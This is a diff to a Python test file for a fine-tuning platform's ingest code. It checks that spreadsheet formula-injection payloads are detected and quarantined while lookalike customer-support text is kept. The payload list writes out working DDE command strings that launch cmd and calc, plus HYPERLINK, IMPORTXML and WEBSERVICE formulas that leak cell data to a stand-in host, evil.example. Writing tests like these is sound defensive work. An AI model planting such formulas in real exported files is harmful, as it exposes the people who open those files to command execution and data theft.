@@ -559,7 +559,7 @@ def test_whole_number_float_labels_are_labels_and_nan_is_no_label(tmp_path):
 
 
 def test_formula_detection_keeps_ordinary_text():
-    from finetune_platform.ingest.readers import _FORMULA
+    from finetune_platform.ingest.readers import is_spreadsheet_formula
 
     formulas = [
         "=1+1",
@@ -582,8 +582,51 @@ def test_formula_detection_keeps_ordinary_text():
         "- see (attached)",
         "+44 20 7946 0958",
     ]
-    assert [s for s in formulas if not _FORMULA.match(s)] == []
-    assert [s for s in ordinary if _FORMULA.match(s)] == []
+    assert [s for s in formulas if not is_spreadsheet_formula(s)] == []
+    assert [s for s in ordinary if is_spreadsheet_formula(s)] == []
+
+
+def test_formula_rule_catches_owasp_payloads_and_keeps_support_text_that_looks_alike(tmp_path):
+    from finetune_platform.ingest.readers import is_spreadsheet_formula
+
+    payloads = [
+        "=cmd|' /C calc'!A0",
+        '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click here")',
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
+        '=WEBSERVICE("http://evil.example/"&A1)',
+        '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+        "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
+        '\t=HYPERLINK("http://evil.example")',
+        '\r=IMPORTDATA("http://evil.example")',
+        '+HYPERLINK("http://evil.example/a)b","x")',  # a parenthesis inside a string
+        '@hyperlink("http://evil.example")',  # any case
+        '-2+3+HYPERLINK("http://evil.example")',
+        '--IMAGE("http://evil.example/?"&A1) & "x"',
+    ]
+    support_text = [
+        "- item(s) missing from my order #4411",
+        "-Refund(s) still pending after 2 weeks",
+        "@support(team) please look at my order",
+        "+info(at)example.com asked me to write here",  # INFO is a function, but text follows the call
+        "@Sarah|Billing can you look at this",
+        "@Sarah|Billing can you look at this?! thanks",
+        "- see the Sum(total) line on my invoice",
+        "-SUM(of my orders) is wrong",
+        "+1 (415) 555-0132 is my callback number",
+        "=) thanks for the quick help",
+        "Call =HYPERLINK later",  # not at the start
+    ]
+    assert [p for p in payloads if not is_spreadsheet_formula(p)] == []
+    assert [t for t in support_text if is_spreadsheet_formula(t)] == []
+
+    body = "text\n" + "".join('"' + t.replace('"', '""') + '"\n' for t in support_text + payloads[:3])
+    _write(tmp_path / "a.csv", body)
+    result = ingest_source(SourceSettings(name="f", path="a.csv", format="csv"), tmp_path)
+    assert result.records["text"].tolist() == support_text
+    assert result.quarantine["reason_code"].tolist() == ["formula_injection"] * 3
 
 
 def test_ingest_sources_rejects_duplicate_names_and_returns_typed_empty_frames(tmp_path):
